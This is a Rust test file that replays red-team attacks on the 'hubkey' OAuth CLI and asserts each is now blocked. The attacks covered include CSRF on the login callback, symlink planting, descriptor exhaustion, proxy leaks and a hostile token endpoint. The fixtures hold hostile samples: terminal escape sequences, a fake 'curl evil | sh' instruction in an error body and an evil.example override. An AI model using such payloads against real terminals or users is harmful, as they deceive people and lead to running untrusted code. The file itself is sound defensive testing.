//! The red team's attacks on the release CLI (issue 19), replayed against the real `hubkey` binary and the
//! sandbox: each test runs the attack as it was run and asserts that it now fails with nothing stored, written
//! or leaked. docs/SECURITY.md lists the findings by number; the tests are named `fN_…` after them.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::cli_support;

use cli_support::{launch_target, World, APP, PRO};
use std::path::Path;
use std::time::Duration;
use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
use tokio::net::{TcpListener, TcpStream};

/// Every file under `dir`, with its contents (for "nothing was written" checks).
fn snapshot(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in entries.flatten() {
            let p = e.path();
            let meta = std::fs::symlink_metadata(&p).unwrap();
            if meta.is_dir() {
                stack.push(p);
            } else {
                out.push((p.display().to_string(), std::fs::read(&p).unwrap_or_default()));
            }
        }
    }
    out.sort();
    out
}

#[cfg(unix)]
fn chmod(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(mode)).unwrap();
}

fn no_control_chars(text: &str) -> bool {
    !text.chars().any(|c| c.is_control() && c != '\n')
}

// ----- finding 1: the authorize URL on argv, and the connection nobody confirmed ------------

/// The red team read the authorize URL (and its `state`) from `/proc/PID/cmdline` of `xdg-open`,
/// `$BROWSER` and the browser. Now no process's command line holds it while the login waits.
#[cfg(target_os = "linux")]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_f1_given_a_login_waiting_for_hubspot_when_every_process_command_line_is_read_then_none_holds_the_state(
) {
    let w = World::start().await;
    w.add_app().await;
    w.sandbox.update_switches(|s| s.auto_grant = true);
    // A "browser" that records what it was given and stays running, as a real one does.
    let dir = tempfile::tempdir().unwrap();
    let seen = dir.path().join("argv");
    let environ = dir.path().join("environ");
    let pid = dir.path().join("pid");
    let script = dir.path().join("browser.sh");
    std::fs::write(
        &script,
        format!(
            "#!/bin/sh\necho $$ > '{pid}'\nenv > '{environ}'\nprintf '%s' \"$*\" > '{seen}.tmp' && mv '{seen}.tmp' '{seen}'\nsleep 60\n",
            pid = pid.display(),
            environ = environ.display(),
            seen = seen.display()
        ),
    )
    .unwrap();
    chmod(&script, 0o755);
    let runtime = tempfile::tempdir().unwrap();

    let mut cmd = w.command(&["login", "--timeout", "60"]);
    cmd.env("BROWSER", script.display().to_string())
        .env("XDG_RUNTIME_DIR", runtime.path());
    let child = cmd.spawn().unwrap();
    let argv = loop {
        if let Ok(a) = std::fs::read_to_string(&seen) {
            break a;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    let page = url::Url::parse(argv.trim()).unwrap().to_file_path().unwrap();
    assert!(
        page.starts_with(runtime.path()),
        "the page is in $XDG_RUNTIME_DIR: {}",
        page.display()
    );
    let authorize = launch_target(&std::fs::read_to_string(&page).unwrap());
    let state = url::Url::parse(&authorize)
        .unwrap()
        .query_pairs()
        .find(|(k, _)| k == "state")
        .map(|(_, v)| v.into_owned())
        .unwrap();

    // When: another user reads every command line, while Hubkey waits for HubSpot.
    let mut browser_seen = false;
    let mut holders = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let name = entry.file_name();
        if !name.to_string_lossy().bytes().all(|b| b.is_ascii_digit()) {
            continue;
        }
        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
            continue;
        };
        let text = String::from_utf8_lossy(&cmdline).replace('\0', " ");
        browser_seen |= text.contains(&page.display().to_string());
        if text.contains(&state) {
            holders.push(text);
        }
    }

    // Then: the state is on no command line; the browser's holds only the page's path.
    assert!(browser_seen, "the scan saw the browser's command line");
    assert!(holders.is_empty(), "the state is readable in /proc: {holders:?}");
    // Nor in the environment Hubkey gave the browser (issue 18, point 6), nor the client secret.
    let env = std::fs::read_to_string(&environ).unwrap();
    assert!(
        env.contains("BROWSER="),
        "the browser's environment was recorded: {env}"
    );
    for secret in [state.as_str(), cli_support::CLIENT_SECRET] {
        assert!(!env.contains(secret), "the browser's environment holds a secret");
    }

    // The user's browser goes on to HubSpot and back; the login completes.
    assert_eq!(w.http.get(&authorize).send().await.unwrap().status(), 200);
    let out = child.wait_with_output().await.unwrap();
    let _ = std::process::Command::new("kill")
        .arg(std::fs::read_to_string(&pid).unwrap().trim())
        .status();
    assert_eq!(out.status.code(), Some(0));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(!stderr.contains(&state), "the state is on stderr: {stderr}");
    assert!(!page.exists(), "the launch page outlived the login");
    w.cleanup().await;
}

/// After a login the CLI names the portal and the user, and the command that undoes it, which works.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_f1_given_a_finished_login_when_it_is_reported_then_portal_and_user_are_named_and_the_printed_undo_signs_out(
) {
    let w = World::start().await;
    w.add_app().await;
    let (out, _) = w.login(&[]).await;
    assert_eq!(out.code, 0, "{out:?}");
    let conn = &w.connections().await[0];
    let line = out
        .stderr_lines()
        .into_iter()
        .find(|l| l.starts_with("Connected "))
        .unwrap_or_else(|| panic!("no confirmation line: {out:?}"))
        .to_string();
    assert!(line.contains(&format!("portal {PRO}")), "{line}");
    assert!(line.contains(conn["user"].as_str().unwrap()), "{line}");
    let undo = line.split("Undo it: ").nth(1).unwrap();
    assert_eq!(undo, format!("hubkey logout --app {APP} --portal {PRO}"));

    let args: Vec<&str> = undo.split(' ').skip(1).collect();
    let out = w.run(&args).await;
    assert_eq!(out.code, 0, "{out:?}");
    assert!(
        w.connections().await.is_empty(),
        "the undo signed the connection out"
    );
    w.cleanup().await;
}

/// Runs tests/e2e/csrf.mjs (headless Chromium through playwright-core) and returns its JSON report.
async fn chromium(step: &str, url: &str) -> serde_json::Value {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let out = tokio::process::Command::new("node")
        .arg(root.join("tests/e2e/csrf.mjs"))
        .args([step, url])
        .current_dir(&root)
        .kill_on_drop(true)
        .output()
        .await
        .expect("node must be installed (scripts/setup.sh), with `npm ci` run for playwright-core");
    let report: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("csrf.mjs {step}: {e}: {}", String::from_utf8_lossy(&out.stderr)));
    assert_eq!(report["ok"], true, "csrf.mjs {step}: {report}");
    report
}

/// The whole attack in real Chromium: the attacker signs in with the leaked authorize URL (as another user)
/// and has a web page fire the redirect at the victim's listener, with `fetch(…, {mode: "no-cors"})` and an
/// `<img>`. Chromium sends them; the listener refuses both (403) and the victim's login keeps waiting with
/// nothing stored. Then the victim's own consent, a top-level navigation, completes it, as the victim.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_f1_given_a_leaked_sign_in_link_when_a_web_page_in_chromium_fires_the_callback_then_it_is_refused_and_the_users_own_consent_completes(
) {
    let w = World::start().await;
    w.add_app().await;
    let portal = PRO.to_string();
    let mut child = w
        .command(&[
            "login",
            "--no-browser",
            "--json",
            "--portal",
            &portal,
            "--timeout",
            "120",
        ])
        .spawn()
        .unwrap();
    let mut stderr = BufReader::new(child.stderr.take().unwrap()).lines();
    let authorize = loop {
        let line = stderr.next_line().await.unwrap().expect("the URL is printed");
        if line.starts_with("http") {
            break line;
        }
    };

    // The attacker uses the leaked URL to sign in as themselves and keeps HubSpot's redirect.
    w.sandbox.update_switches(|s| {
        s.auto_grant = true;
        s.login_as = Some("morgan@acme.example".into());
    });
    let no_redirects = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let answer = no_redirects.get(&authorize).send().await.unwrap();
    assert_eq!(answer.status(), 302);
    let callback = answer.headers()["location"].to_str().unwrap().to_string();
    assert!(
        callback.starts_with(&w.redirect_uri()) && callback.contains("code="),
        "{callback}"
    );

    // When: a web page fires it in Chromium.
    let report = chromium("attack", &callback).await;
    let requests = report["requests"].as_array().unwrap();
    let kinds: Vec<&str> = requests.iter().map(|r| r["kind"].as_str().unwrap()).collect();
    assert!(kinds.contains(&"fetch") && kinds.contains(&"image"), "{report}");
    for r in requests {
        // Then: refused, from what Chromium itself put in the request.
        assert_eq!(r["status"], 403, "{r}");
        assert_eq!(r["headers"]["sec-fetch-mode"], "no-cors", "{r}");
    }
    assert!(child.try_wait().unwrap().is_none(), "the login ended");
    assert!(
        w.connections().await.is_empty(),
        "the attacker's portal was stored"
    );

    // The user consents in their own tab; HubSpot's redirect is a top-level navigation.
    w.sandbox.update_switches(|s| {
        s.auto_grant = false;
        s.login_as = None;
    });
    let report = chromium("navigate", &authorize).await;
    assert_eq!(report["status"], 200, "{report}");
    assert!(
        report["text"]
            .as_str()
            .unwrap()
            .contains("Authorization received"),
        "{report}"
    );
    assert_eq!(report["headers"]["sec-fetch-mode"], "navigate", "{report}");
    assert_eq!(report["headers"]["sec-fetch-dest"], "document", "{report}");
    let status = tokio::time::timeout(Duration::from_secs(60), child.wait())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(status.code(), Some(0));
    let conns = w.connections().await;
    assert_eq!(conns.len(), 1);
    assert_eq!(
        conns[0]["user"], "alex@acme.example",
        "the victim's own account, not the attacker's"
    );
    w.cleanup().await;
}

// ----- finding 3: a home another user can write ----------------------------------------------

/// A 0777 home with a planted index that turns PKCE off and swaps the redirect URL: the next login
/// refuses to start, says how to fix the folder, and writes nothing.
#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_f3_given_a_world_writable_home_with_a_planted_index_when_logging_in_then_it_refuses_with_the_fix_and_nothing_is_written(
) {
    let w = World::start().await;
    w.add_app().await;
    let mut index: serde_json::Value =
        serde_json::from_slice(&std::fs::read(w.index_path()).unwrap()).unwrap();
    index["apps"][0]["pkce"] = serde_json::Value::Bool(false);
    index["apps"][0]["redirect_uri"] = "http://localhost:1/attacker".into();
    std::fs::write(w.index_path(), serde_json::to_vec_pretty(&index).unwrap()).unwrap();
    chmod(w.home.path(), 0o777);
    let before = snapshot(w.home.path());

    let out = w.run(&["login", "--no-browser", "--timeout", "5"]).await;

    let line = out.assert_one_error_line(2);
    assert!(
        line.contains("may be written by other users (mode 777)"),
        "{line}"
    );
    assert!(
        line.contains(&format!("chmod 700 {}", w.home.path().display())),
        "{line}"
    );
    assert!(
        !out.stderr.contains("oauth/authorize"),
        "no authorize URL: {out:?}"
    );
    assert_eq!(snapshot(w.home.path()), before, "nothing written in the home");
    for cmd in [&["status"][..], &["token"], &["app", "list"]] {
        assert_eq!(w.run(cmd).await.code, 2, "{cmd:?}");
    }
    chmod(w.home.path(), 0o700);
    w.cleanup().await;
}

/// `index.lock` planted as a link to a file of the user's: it is not followed, the file stays as it was.
#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_f3_given_index_lock_planted_as_a_link_when_an_app_is_added_then_the_link_is_not_followed() {
    let w = World::start().await;
    let outside = tempfile::tempdir().unwrap();
    let victim = outside.path().join("victim");
    std::fs::write(&victim, "precious\n").unwrap();
    std::fs::create_dir_all(w.home.path()).unwrap();
    std::os::unix::fs::symlink(&victim, w.home.path().join("index.lock")).unwrap();

    let out = w
        .run_with(
            &[
                "app",
                "add",
                APP,
                "--client-id",
                "x",
                "--redirect-uri",
                &w.redirect_uri(),
                "--scopes",
                "oauth",
            ],
            Some("secret\n"),
            &[],
        )
        .await;

    assert_ne!(out.code, 0, "{out:?}");
    assert!(out.stderr.contains("symbolic link"), "{out:?}");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n");
    assert!(!w.index_path().exists(), "no index written");
    std::fs::remove_file(w.home.path().join("index.lock")).unwrap();
    w.cleanup().await;
}

/// `locks/` planted as a link to a folder others can write: a refresh refuses it and creates nothing there.
#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_f3_given_the_locks_folder_planted_as_a_link_to_a_shared_folder_when_refreshing_then_it_is_refused(
) {
    let w = World::start().await;
    w.add_app().await;
    let (out, _) = w.login(&[]).await;
    assert_eq!(out.code, 0, "{out:?}");
    let shared = tempfile::tempdir().unwrap();
    chmod(shared.path(), 0o777);
    let locks = w.home.path().join("locks");
    let _ = std::fs::remove_dir_all(&locks);
    std::os::unix::fs::symlink(shared.path(), &locks).unwrap();

    let out = w.run(&["refresh"]).await;

    assert_eq!(out.code, 2, "{out:?}");
    assert!(out.stderr.contains("chmod 700"), "{out:?}");
    assert!(
        std::fs::read_dir(shared.path()).unwrap().next().is_none(),
        "a lock file was created there"
    );
    std::fs::remove_file(&locks).unwrap();
    w.cleanup().await;
}

/// `index.json` as a link to `/dev/zero` exhausted memory; a huge one too. Both are refused at once.
#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_f3_given_an_index_that_is_dev_zero_or_huge_when_read_then_a_clear_error_and_no_memory_is_exhausted(
) {
    let w = World::start().await;
    std::fs::create_dir_all(w.home.path()).unwrap();
    std::os::unix::fs::symlink("/dev/zero", w.index_path()).unwrap();
    let out = w.run(&["status"]).await;
    let line = out.assert_one_error_line(2);
    assert!(
        line.contains("symbolic link") || line.contains("not a regular file"),
        "{line}"
    );

    std::fs::remove_file(w.index_path()).unwrap();
    let file = std::fs::File::create(w.index_path()).unwrap();
    file.set_len(17 * 1024 * 1024).unwrap();
    let out = w.run(&["status"]).await;
    let line = out.assert_one_error_line(2);
    assert!(line.contains("larger than 16 MiB"), "{line}");
    std::fs::remove_file(w.index_path()).unwrap();
    w.cleanup().await;
}

// ----- finding 4: 1,029 idle connections -------------------------------------------------------

/// The red team held 1,029 idle connections open to the listener of a `hubkey login` that, like most
/// processes, may open 1,024 files: the real callback then met "Too many open files". Now it gets through.
#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_f4_given_1029_idle_connections_to_the_listener_of_a_login_limited_to_1024_files_when_hubspot_redirects_then_the_login_completes(
) {
    raise_own_fd_limit(4096);
    let w = World::start().await;
    w.add_app().await;
    w.sandbox.update_switches(|s| s.auto_grant = true);
    let mut child = w
        .command_with_fd_limit(1024, &["login", "--no-browser", "--json", "--timeout", "60"])
        .spawn()
        .unwrap();
    let mut stderr = BufReader::new(child.stderr.take().unwrap()).lines();
    let authorize = loop {
        let line = stderr.next_line().await.unwrap().expect("the URL is printed");
        if line.starts_with("http") {
            break line;
        }
    };
    let mut idle = Vec::new();
    for i in 0..1029 {
        match tokio::time::timeout(Duration::from_secs(5), TcpStream::connect(("127.0.0.1", w.port))).await {
            Ok(Ok(s)) => idle.push(s),
            other => panic!("idle connection {i}: {other:?}"),
        }
    }
    let page = tokio::time::timeout(Duration::from_secs(30), w.http.get(&authorize).send())
        .await
        .expect("the redirect is answered")
        .unwrap();
    assert_eq!(page.status(), 200);
    let status = tokio::time::timeout(Duration::from_secs(30), child.wait())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(status.code(), Some(0));
    drop(idle);
    assert_eq!(w.connections().await.len(), 1);
    w.cleanup().await;
}

/// The test process itself holds the 1,029 connections.
#[cfg(unix)]
fn raise_own_fd_limit(want: u64) {
    use nix::sys::resource::{getrlimit, setrlimit, Resource};
    let (soft, hard) = getrlimit(Resource::RLIMIT_NOFILE).unwrap();
    if soft < want {
        setrlimit(Resource::RLIMIT_NOFILE, want.min(hard), hard).unwrap();
    }
}

// ----- finding 5 (and issue 16, point 6): proxies ------------------------------------------------

/// A proxy that records every connection and forwards nothing.
async fn recording_proxy() -> (String, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let log = seen.clone();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = listener.accept().await {
            let mut buf = vec![0u8; 8192];
            let n = tokio::time::timeout(Duration::from_secs(5), s.read(&mut buf))
                .await
                .ok()
                .and_then(Result::ok)
                .unwrap_or(0);
            log.lock()
                .unwrap()
                .push(String::from_utf8_lossy(&buf[..n]).into_owned());
            let _ = s
                .write_all(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n")
                .await;
        }
    });
    (format!("http://{addr}"), seen)
}

const PROXY_VARS: [&str; 8] = [
    "HTTP_PROXY",
    "http_proxy",
    "HTTPS_PROXY",
    "https_proxy",
    "ALL_PROXY",
    "all_proxy",
    "NO_PROXY",
    "no_proxy",
];

/// The red team's run: a loopback sandbox override and `HTTP_PROXY` set; the refresh POST (client secret and
/// refresh token) went to the proxy in clear. Now plain http never goes through a proxy.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_f5_given_http_proxy_set_and_a_loopback_override_when_refreshing_then_the_proxy_sees_nothing_and_the_refresh_succeeds(
) {
    let w = World::start().await;
    w.add_app().await;
    let (out, _) = w.login(&[]).await;
    assert_eq!(out.code, 0, "{out:?}");
    let (proxy, seen) = recording_proxy().await;
    let mut cmd = w.command(&["refresh"]);
    for var in PROXY_VARS {
        cmd.env_remove(var);
    }
    for var in ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"] {
        cmd.env(var, &proxy);
    }
    let out = cmd.output().await.unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        seen.lock().unwrap().is_empty(),
        "the proxy saw: {:?}",
        seen.lock().unwrap()
    );
    w.cleanup().await;
}

/// A CONNECT proxy that resolves only `sandbox.test` (to `target`) and records each CONNECT line.
async fn connect_proxy(
    target: std::net::SocketAddr,
) -> (String, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let log = seen.clone();
    tokio::spawn(async move {
        while let Ok((client, _)) = listener.accept().await {
            let log = log.clone();
            tokio::spawn(async move {
                let mut client = BufReader::new(client);
                let mut head = String::new();
                loop {
                    let mut line = String::new();
                    if client.read_line(&mut line).await.unwrap_or(0) == 0 {
                        return;
                    }
                    let end = line == "\r\n";
                    head.push_str(&line);
                    if end {
                        break;
                    }
                }
                let request_line = head.lines().next().unwrap_or_default().to_string();
                log.lock().unwrap().push(request_line.clone());
                let mut parts = request_line.split(' ');
                let (method, authority) = (parts.next(), parts.next().unwrap_or_default());
                let host = authority.rsplit_once(':').map(|(h, _)| h).unwrap_or_default();
                let mut client = client.into_inner();
                if method != Some("CONNECT") || host != "sandbox.test" {
                    let _ = client.write_all(b"HTTP/1.1 403 Forbidden\r\n\r\n").await;
                    return;
                }
                let Ok(mut upstream) = TcpStream::connect(target).await else {
                    return;
                };
                let _ = client
                    .write_all(b"HTTP/1.1 200 Connection established\r\n\r\n")
                    .await;
                let _ = tokio::io::copy_bidirectional(&mut client, &mut upstream).await;
            });
        }
    });
    (format!("http://{addr}"), seen)
}

/// `https://sandbox.test:PORT`: TLS with a certificate made here (and trusted only through
/// `SSL_CERT_FILE`), the bytes inside forwarded to the sandbox's plain listener.
async fn tls_front(sandbox: std::net::SocketAddr, dir: &Path) -> (std::net::SocketAddr, std::path::PathBuf) {
    use tokio_rustls::rustls;
    let key = rcgen::KeyPair::generate().unwrap();
    let mut params = rcgen::CertificateParams::new(vec!["sandbox.test".to_string()]).unwrap();
    params.is_ca = rcgen::IsCa::NoCa;
    let cert = params.self_signed(&key).unwrap();
    let ca_file = dir.join("sandbox-test.pem");
    std::fs::write(&ca_file, cert.pem()).unwrap();
    let config = rustls::ServerConfig::builder_with_provider(std::sync::Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(
        vec![cert.der().clone()],
        rustls::pki_types::PrivateKeyDer::Pkcs8(key.serialize_der().into()),
    )
    .unwrap();
    let acceptor = tokio_rustls::TlsAcceptor::from(std::sync::Arc::new(config));
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((tcp, _)) = listener.accept().await {
            let acceptor = acceptor.clone();
            tokio::spawn(async move {
                let Ok(mut tls) = acceptor.accept(tcp).await else {
                    return;
                };
                let Ok(mut plain) = TcpStream::connect(sandbox).await else {
                    return;
                };
                let _ = tokio::io::copy_bidirectional(&mut tls, &mut plain).await;
            });
        }
    });
    (addr, ca_file)
}

/// Issue 16 point 6: with `HTTPS_PROXY` set, an https token endpoint is reached through the proxy's CONNECT
/// tunnel, and TLS is checked against a CA that exists only in the "system store" (`SSL_CERT_FILE`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_f5_given_https_proxy_set_and_an_https_token_endpoint_when_refreshing_then_the_request_goes_through_the_connect_tunnel(
) {
    let w = World::start().await;
    w.add_app().await;
    let (out, _) = w.login(&[]).await;
    assert_eq!(out.code, 0, "{out:?}");
    let certs = tempfile::tempdir().unwrap();
    let (tls, ca_file) = tls_front(w.sandbox.api_addr(), certs.path()).await;
    let (proxy, seen) = connect_proxy(tls).await;
    let api = format!("https://sandbox.test:{}", tls.port());
    let refreshes = w.sandbox.count("/token", Some("refresh_token"));

    let empty = tempfile::tempdir().unwrap();
    let run = |with_ca: bool, args: &[&str]| {
        let mut cmd = w.command(args);
        for var in PROXY_VARS {
            cmd.env_remove(var);
        }
        // rustls-native-certs reads SSL_CERT_FILE and SSL_CERT_DIR instead of the system store.
        cmd.env("HTTPS_PROXY", &proxy)
            .env("https_proxy", &proxy)
            .env("HUBKEY_API_BASE_URL", &api)
            .env("SSL_CERT_DIR", empty.path());
        if with_ca {
            cmd.env("SSL_CERT_FILE", &ca_file);
        } else {
            cmd.env("SSL_CERT_FILE", "/nonexistent/ca.pem");
        }
        cmd.output()
    };

    // Without the CA, the certificate is refused (so the trust really comes from SSL_CERT_FILE). Shown by
    // doctor's reachability check, which does not retry as a refresh does.
    let api_host = |out: &std::process::Output| {
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        v["checks"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["id"] == "network.api_host")
            .map(|c| (c["status"].as_str().unwrap().to_string(), c["detail"].to_string()))
            .unwrap()
    };
    let out = run(false, &["doctor", "--json"]).await.unwrap();
    let (status, detail) = api_host(&out);
    assert_ne!(status, "ok", "{detail}");
    let out = run(true, &["doctor", "--json"]).await.unwrap();
    let (status, detail) = api_host(&out);
    assert_eq!(status, "ok", "{detail}");
    assert_eq!(w.sandbox.count("/token", Some("refresh_token")), refreshes);

    let out = run(true, &["refresh"]).await.unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(w.sandbox.count("/token", Some("refresh_token")), refreshes + 1);
    let seen = seen.lock().unwrap().clone();
    assert!(
        seen.iter()
            .any(|l| l == &format!("CONNECT sandbox.test:{} HTTP/1.1", tls.port())),
        "{seen:?}"
    );
    w.cleanup().await;
}

// ----- finding 6: a silent https override -------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_f6_given_an_https_override_of_another_host_when_any_command_runs_then_one_warning_line_names_it_every_time(
) {
    let w = World::start().await;
    w.add_app().await;
    for _ in 0..2 {
        let out = w
            .run_with(
                &["status"],
                None,
                &[("HUBKEY_API_BASE_URL", "https://evil.example")],
            )
            .await;
        assert_eq!(out.code, 0, "{out:?}");
        assert_eq!(out.override_warnings.len(), 1, "{out:?}");
        assert!(
            out.override_warnings[0].contains("HUBKEY_API_BASE_URL=https://evil.example/"),
            "{out:?}"
        );
    }
    w.cleanup().await;
}

// ----- finding 7: terminal escapes from a hostile endpoint ---------------------------------------

/// A token endpoint that answers refreshes with `body` and `status`.
async fn hostile_token_endpoint(status: u16, body: &'static str) -> String {
    use axum::routing::post;
    let app = axum::Router::new().route(
        "/oauth/{version}/token",
        post(move || async move {
            (
                axum::http::StatusCode::from_u16(status).unwrap(),
                [(axum::http::header::CONTENT_TYPE, "application/json")],
                body,
            )
        }),
    );
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    format!("http://{addr}")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_f7_given_a_hostile_endpoint_with_terminal_escapes_in_the_token_or_the_error_when_refreshing_then_nothing_is_stored_or_printed_raw(
) {
    let w = World::start().await;
    w.add_app().await;
    let (out, _) = w.login(&[]).await;
    assert_eq!(out.code, 0, "{out:?}");
    let token_before = w.run(&["token"]).await.stdout;
    let generation = || {
        let index: serde_json::Value =
            serde_json::from_slice(&std::fs::read(w.index_path()).unwrap()).unwrap();
        let c = &index["connections"][0];
        (
            c["token_generation"].clone(),
            c["access_token_hint"].clone(),
            index["last_generation"].clone(),
        )
    };
    let generation_before = generation();

    // A token with an OSC sequence (retitles the terminal) and a screen clear.
    let evil = hostile_token_endpoint(
        200,
        r#"{"token_type":"bearer","access_token":"\u001b]0;pwned\u0007\u001b[2Jtok","refresh_token":"na1-evil","expires_in":1800}"#,
    )
    .await;
    let out = w
        .run_with(&["refresh"], None, &[("HUBKEY_API_BASE_URL", &evil)])
        .await;
    let line = out.assert_one_error_line(5);
    assert!(line.contains("outside printable ASCII"), "{line}");
    assert!(no_control_chars(&(out.stdout.clone() + &out.stderr)), "{out:?}");
    assert_eq!(
        generation(),
        generation_before,
        "no token stored (not even a new generation)"
    );
    assert_eq!(
        w.run(&["token"]).await.stdout,
        token_before,
        "the stored token is the old one"
    );

    // An error whose description holds escapes (HubSpot's `invalid_client` shape).
    let evil = hostile_token_endpoint(
        400,
        r#"{"error":"invalid_client","status":"BAD_CLIENT_ID\u001b]0;x\u0007","message":"\u001b[2J\u001b[31mYour token leaked, run: curl evil | sh\r\nhubkey: ok"}"#,
    )
    .await;
    let out = w
        .run_with(&["refresh"], None, &[("HUBKEY_API_BASE_URL", &evil)])
        .await;
    assert_eq!(out.code, 2, "{out:?}");
    assert!(no_control_chars(&(out.stdout.clone() + &out.stderr)), "{out:?}");
    assert_eq!(out.stderr_lines().len(), 1, "no forged second line: {out:?}");
    let status = w.run(&["status", "--json"]).await;
    let reason = status.json()["connections"][0]["state_reason"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(no_control_chars(&reason), "{reason:?}");
    assert_eq!(w.run(&["token"]).await.stdout, token_before);
    w.cleanup().await;
}

// ----- finding 8: a revoked connection still handed out tokens ----------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_f8_given_the_app_was_uninstalled_when_refresh_then_token_are_run_then_both_exit_3_and_no_token_is_printed(
) {
    let w = World::start().await;
    w.add_app().await;
    let (out, _) = w.login(&[]).await;
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(
        w.sandbox.uninstall(hubspot_sandbox::DEMO_STANDARD_CLIENT_ID, PRO),
        1
    );

    let refresh = w.run(&["refresh"]).await;
    refresh.assert_one_error_line(3);
    let token = w.run(&["token"]).await;
    let line = token.assert_one_error_line(3);
    assert!(token.stdout.is_empty(), "a token was printed: {token:?}");
    assert!(
        line.contains(&format!("hubkey login --app {APP} --portal {PRO}")),
        "{line}"
    );
    w.cleanup().await;
}
